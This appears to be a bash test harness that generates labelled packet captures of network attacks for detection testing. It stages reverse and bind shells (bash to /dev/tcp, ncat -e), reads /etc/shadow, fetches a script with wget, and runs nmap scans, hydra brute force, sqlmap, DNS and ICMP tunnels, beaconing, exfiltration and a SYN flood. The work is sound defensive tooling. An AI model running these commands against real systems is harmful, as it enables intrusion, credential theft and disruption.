# Attacks seen by their shape on the network: scans, guessing, tunnels, beacons, exfiltration, floods.
# shellcheck shell=bash disable=SC2154,SC2086

# --- a shell for the attacker -------------------------------------------------------------------

about reverse_shell "ncat bash" \
  "ATTACK: srv connects to the attacker's ncat on port 4444 and gives it bash -i (id, uname -a, cat /etc/passwd, ps); then a bind shell: ncat -e /bin/sh on srv port 1337, which the attacker uses"
cap_reverse_shell() {
  # The machine's own kernel name is nobody's business: uname answers as a usual web server would.
  mkdir -p "$WORK/bin"
  printf '#!/bin/sh\necho "Linux web01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux"\n' >"$WORK/bin/uname"
  printf '#!/bin/sh\necho "    PID TTY          TIME CMD\\n      1 ?        00:00:01 init\\n    812 ?        00:00:00 nginx"\n' >"$WORK/bin/ps"
  chmod +x "$WORK"/bin/*
  local as_web="unshare --uts setpriv --reuid=www-data --regid=www-data --clear-groups env -i PATH=$WORK/bin:/usr/bin:/bin HOME=/ TERM=dumb"
  capture gw srv
  { for c in id 'uname -a' whoami 'cat /etc/passwd | head -5' 'ps' 'ls -la /' 'echo done' exit; do sleep 0.4; echo "$c"; done; sleep 0.5; } |
    at atk ncat -l -p 4444 &
  wait_tcp atk $ATK4 4444
  (cd / && at srv unshare --uts sh -c "hostname web01; exec $as_web bash -c 'exec bash --norc -i >& /dev/tcp/$ATK4/4444 0>&1'") || true
  (cd / && start srv unshare --uts sh -c "hostname web01; exec $as_web ncat -l -p 1337 -e /bin/sh")
  wait_tcp srv $SRV4 1337
  { for c in id 'uname -a' 'cat /etc/shadow' 'cd /tmp && wget http://203.0.113.66/x.sh' exit; do echo "$c"; sleep 0.4; done; } | at atk ncat -w 5 $SRV4 1337 || true
}

# --- scans by nmap, at its default timing unless said otherwise ---------------------------------

# scanned NMAP_ARGUMENT...: nmap from atk against srv, which has web, ssh and FTP ports open.
scan_targets() { web; sshd_up; }
scan() { at atk nmap -n -Pn "$@" $SRV4; }

about nmap_syn "nmap nginx-light openssh-server" "ATTACK: nmap -sS, 300 ports of one host, 4 open"
cap_nmap_syn() { scan_targets; capture gw srv; scan -sS --top-ports 300; }

about nmap_connect "nmap nginx-light openssh-server" "ATTACK: nmap -sT, 200 ports of one host"
cap_nmap_connect() { scan_targets; capture gw srv; scan -sT --top-ports 200; }

about nmap_fin_xmas_null "nmap nginx-light openssh-server" "ATTACK: nmap -sF, then -sX, then -sN, 60 ports each"
cap_nmap_fin_xmas_null() {
  local kind
  scan_targets
  capture gw srv
  for kind in -sF -sX -sN; do scan $kind --top-ports 60; done
}

about nmap_udp "nmap dnsmasq chrony" "ATTACK: nmap -sU, 30 ports (ICMP unreachable limited by the kernel to one a second, as on any Linux)"
cap_nmap_udp() { nameserver; capture gw srv; at atk nmap -n -Pn -sU --top-ports 30 $DNS4; }

about nmap_service_version "nmap nginx-light openssh-server vsftpd" "ATTACK: nmap -sV -sC -O (versions, default scripts, system detection) on ports 21, 22, 25, 80, 443"
cap_nmap_service_version() {
  web
  sshd_up
  ftp_server
  capture gw srv
  scan -sS -sV -sC -O -p 21,22,25,80,443
}

about nmap_slow "nmap nginx-light openssh-server" "ATTACK: nmap -sS -T2 (polite: a probe every 0.4 s), 60 ports"
cap_nmap_slow() { scan_targets; capture gw srv; scan -sS -T2 --top-ports 60; }

about nmap_sweep "nmap nginx-light openssh-server" \
  "ATTACK: recorded on the attacker's link: nmap looks for port 22, then 445, on 60 addresses of 10.10.2.0/24 (2 exist), and a ping sweep; the router answers host unreachable"
cap_nmap_sweep() {
  scan_targets
  capture gw atk
  at atk nmap -n -Pn -sS -p 22 --max-retries 1 10.10.2.1-60
  at atk nmap -n -Pn -sS -p 445 --max-retries 1 10.10.2.1-60
  at atk nmap -n -sn -PE --max-retries 1 10.10.2.1-60
}

# --- guessing -----------------------------------------------------------------------------------

# passwords N: a list of N wrong ones and then the right one, in $WORK/passwords.
passwords() {
  local i
  for i in $(seq "$1"); do echo "Password-$i"; done >"$WORK/passwords"
  echo 'Correct-Horse-7' >>"$WORK/passwords"
}

about ssh_bruteforce "hydra openssh-server" "ATTACK: hydra guesses alice's SSH password, four at a time: 20 wrong, the last one right"
cap_ssh_bruteforce() {
  passwords 20
  sshd_up
  capture gw srv
  at atk hydra -I -l alice -P "$WORK/passwords" -t 4 ssh://$SRV4
}

about ssh_guessing "sshpass openssh-client openssh-server" "ATTACK: the same guessing with a connection for each attempt: OpenSSH's client, 12 wrong passwords, the 13th right, then a command"
cap_ssh_guessing() {
  local p
  passwords 12
  sshd_up
  capture gw srv
  while read -r p <&3; do
    at atk sshpass -p "$p" ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 alice@$SRV4 'id; uname -s' || true
  done 3<"$WORK/passwords"
}

about ftp_bruteforce "hydra vsftpd" "ATTACK: hydra guesses alice's FTP password, four at a time: 30 wrong, the last one right"
cap_ftp_bruteforce() {
  passwords 30
  ftp_server
  capture gw srv
  at atk hydra -I -l alice -P "$WORK/passwords" -t 4 ftp://$SRV4
}

about http_bruteforce "hydra nginx-light" "ATTACK: hydra guesses alice's password at an HTTP Basic page (401), then at a login form (200 with a message, 302 when right): 30 wrong each, the last one right"
cap_http_bruteforce() {
  passwords 30
  web
  capture gw srv
  at atk hydra -I -l alice -P "$WORK/passwords" -t 4 http-get://$SRV4/private
  at atk hydra -I -l alice -P "$WORK/passwords" -t 4 $SRV4 http-post-form '/login/form:user=^USER^&password=^PASS^:wrong name'
}

about smtp_bruteforce "hydra python3-aiosmtpd" "ATTACK: hydra guesses alice's SMTP AUTH password (aiosmtpd, AUTH LOGIN): 20 wrong (535), the last one right (235)"
cap_smtp_bruteforce() {
  passwords 20
  start srv python3 "$HERE/smtp_auth.py" $MX4 25
  wait_tcp srv $MX4 25
  capture gw srv
  at atk hydra -I -l alice -P "$WORK/passwords" -t 4 smtp://$MX4
}

about dir_bruteforce "gobuster nginx-light" "ATTACK: gobuster tries 150 paths, nearly all 404"
cap_dir_bruteforce() {
  local i
  { printf '%s\n' index.html admin backup.zip .git/HEAD login config.php report.pdf; for i in $(seq 143); do echo "path$i"; done; } >"$WORK/words"
  web
  capture gw srv
  at atk gobuster dir -q -t 4 -w "$WORK/words" -u http://$SRV4/
}

about sqlmap "sqlmap nginx-light" "ATTACK: sqlmap finds the injection in /item?id= (boolean, UNION) and dumps a table"
cap_sqlmap() {
  web
  capture gw srv
  (cd "$WORK" && HOME=$WORK at atk sqlmap -u "http://$SRV4/item?id=1" -p id --dbms=sqlite --technique=BU --batch --flush-session \
    --disable-coloring --output-dir="$WORK/sqlmap" -T users --dump)
}

# --- tunnels, beacons, exfiltration --------------------------------------------------------------

# resolver OPTION...: dnsmasq on srv as the site's resolver, which forwards what OPTIONs say.
resolver() {
  start srv dnsmasq -k --conf-file=/dev/null --no-hosts --no-resolv --user=root --pid-file= --bind-interfaces \
    --listen-address=$DNS4 --except-interface=lo --log-facility=- --cache-size=150 "$@"
  wait_udp srv $DNS4 53
}

# iodine_tunnel OPTION...: through the resolver to iodined on atk; pings, a download and an upload inside.
iodine_tunnel() {
  local i
  web_content
  head -c 4000 "$WORK/site/random.bin" >"$WORK/loot.bin"
  resolver --server=/t.evil.example/$ATK4
  start atk iodined -f -c -P secret -l $ATK4 10.99.0.1 t.evil.example
  wait_udp atk $ATK4 53
  start atk python3 -m http.server 8000 --directory "$WORK"
  start atk ncat -l 9000 --recv-only -o /dev/null
  capture gw cli
  start cli iodine -f -r -P secret "$@" $DNS4 t.evil.example
  for i in $(seq 100); do
    if at cli ping -n -c 1 -W 1 10.99.0.1; then break; fi
    sleep 0.3
  done
  at cli ping -n -c 5 -i 0.5 10.99.0.1
  at cli curl -sS --max-time 60 -o /dev/null http://10.99.0.1:8000/loot.bin
  at cli ncat -w 20 --send-only 10.99.0.1 9000 <"$WORK/site/random.bin"
  sleep 4
}

readonly IODINE_PACKAGES="iodine dnsmasq iputils-ping curl ncat" IODINE_INSIDE="ping, a 4 kB download and a 20 kB upload inside"
about dns_tunnel_iodine "$IODINE_PACKAGES" \
  "ATTACK: recorded on the client's link: iodine through the site's resolver to iodined outside (t.evil.example), what it negotiates itself (NULL records); $IODINE_INSIDE"
cap_dns_tunnel_iodine() { iodine_tunnel; }

about dns_tunnel_iodine_txt "$IODINE_PACKAGES" "ATTACK: the same with TXT records, names of at most 120 characters and no lazy mode; $IODINE_INSIDE"
cap_dns_tunnel_iodine_txt() { iodine_tunnel -T TXT -M 120 -L 0; }

about dns_tunnel_dns2tcp "dns2tcp dnsmasq ncat" \
  "ATTACK: recorded on the client's link: dns2tcp through the site's resolver (d.evil.example), TXT records; a shell session's worth of text both ways"
cap_dns_tunnel_dns2tcp() {
  printf '%s\n' "listen = $ATK4" 'port = 53' 'user = nobody' "chroot = $WORK/empty" 'domain = d.evil.example' 'key = secret' \
    'resources = echo:127.0.0.1:7777' >"$WORK/dns2tcpd.conf"
  mkdir -p "$WORK/empty"
  resolver --server=/d.evil.example/$ATK4
  start atk ncat -l -k -e /bin/cat 127.0.0.1 7777
  start atk dns2tcpd -F -f "$WORK/dns2tcpd.conf"
  wait_udp atk $ATK4 53
  capture gw cli
  start cli dns2tcpc -z d.evil.example -k secret -r echo -l 2222 -c -T TXT $DNS4
  wait_tcp cli 127.0.0.1 2222
  { for i in $(seq 25); do echo "line $i of the secret plan: nothing may leave this network"; sleep 0.2; done; sleep 3; } |
    at cli ncat -w 4 127.0.0.1 2222 || true
}

# requests N MEAN KIND: N requests, spaced MEAN seconds with ±20 % jitter (beacon) or as a Poisson
# process (poisson); the spacing has a fixed seed.
requests() {
  local gap
  while read -r gap; do
    sleep "$gap"
    at cli curl -sS --max-time 5 -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)' "http://$ATK4/api/status?id=7f3a"
  done < <(python3 -c '
import random, sys
rng = random.Random(7)
mean = float(sys.argv[2])
for _ in range(int(sys.argv[1])):
    print("%.3f" % (mean * rng.uniform(0.8, 1.2) if sys.argv[3] == "beacon" else rng.expovariate(1 / mean)))
' "$@")
}

about http_beacon "nginx-light curl" \
  "ATTACK: cli calls the attacker's nginx 70 times, every 1 s ± 20 % (uniform jitter), same request: a beacon of 60 s intervals with time compressed 60-fold"
cap_http_beacon() {
  WEB_HOST=atk web
  capture gw atk
  requests 70 1 beacon
}

about http_poisson "nginx-light curl" \
  "BENIGN counterpart of http_beacon: the same request to the same host 70 times, as a Poisson process of mean 1 s; a beacon detector must stay silent"
cap_http_poisson() {
  WEB_HOST=atk web
  capture gw atk
  requests 70 1 poisson
}

about exfil "nginx-light curl" \
  "ATTACK: cli uploads 12 MB to the attacker by one HTTP PUT at 4 MB/s. Cut to 100 bytes a packet (tcpdump -s 100), so payloads are incomplete; the lengths in the IP headers are true"
cap_exfil() {
  WEB_HOST=atk web
  head -c 12582912 /dev/zero >"$WORK/archive.bin"
  capture gw atk -s 100
  at cli curl -sS --max-time 30 --limit-rate 4M -o /dev/null -T "$WORK/archive.bin" http://$ATK4/upload/archive.bin
}

about icmp_tunnel "iputils-ping" "ATTACK: recorded on the client's link: 120 pings of 900 bytes with differing payloads at 20 a second, as data leaving by ICMP"
cap_icmp_tunnel() {
  local i
  capture gw cli
  for i in $(seq 120); do
    at cli ping -n -c 1 -W 1 -s 900 -p "$(printf 'data chunk %04d' "$i" | head -c 15 | od -An -tx1 | tr -d ' \n')" $ATK4
    sleep 0.03
  done
}

# --- malware over HTTP, floods -------------------------------------------------------------------

about eicar_http "nginx-light curl" "ATTACK: the EICAR test file downloaded from the attacker as eicar.com, in a ZIP, and gzip-encoded in chunks; and uploaded by multipart POST"
cap_eicar_http() {
  # The mail-sized string is under gzip's usual minimum; make nginx compress it all the same.
  WEB_HOST=atk WEB_EXTRA='types { application/javascript js; application/zip zip; }' web
  cp "$WORK/www/site/eicar.com" "$WORK/www/site/eicar.js"
  sed -i 's/gzip_min_length 200/gzip_min_length 10/' "$WORK/www/nginx.conf"
  at atk nginx -c "$WORK/www/nginx.conf" -p "$WORK/www" -s reload
  capture gw atk
  local u=http://$ATK4
  at cli curl -sS --max-time 10 -o /dev/null $u/eicar.com
  at cli curl -sS --max-time 10 -o /dev/null $u/eicar.zip
  at cli curl -sS --max-time 10 -o /dev/null --compressed $u/eicar.js
  at cli curl -sS --max-time 10 -o /dev/null -F "file=@$WORK/www/site/eicar.com" $u/upload
}

about syn_flood "hping3 nginx-light curl" \
  "ATTACK: ten seconds of curl (4 a second), then a SYN flood on port 80 from random addresses (about 400 a second for 4 s) while curl goes on"
cap_syn_flood() {
  local i
  web
  capture gw srv
  for i in $(seq 40); do web_client http://www.corp.example/contact.html; sleep 0.2; done
  start atk hping3 -q -S -p 80 -i u2500 -c 1600 --rand-source $SRV4
  for i in $(seq 16); do web_client http://www.corp.example/contact.html || true; sleep 0.2; done
}

about http_load "apache2-utils nginx-light" "BENIGN: ab fetches a page 100 times over 8 connections kept alive, then 40 times without keep-alive"
cap_http_load() {
  web
  capture gw srv
  at cli ab -q -k -n 100 -c 8 http://www.corp.example/contact.html
  at cli ab -q -n 40 -c 4 http://www.corp.example/contact.html
}
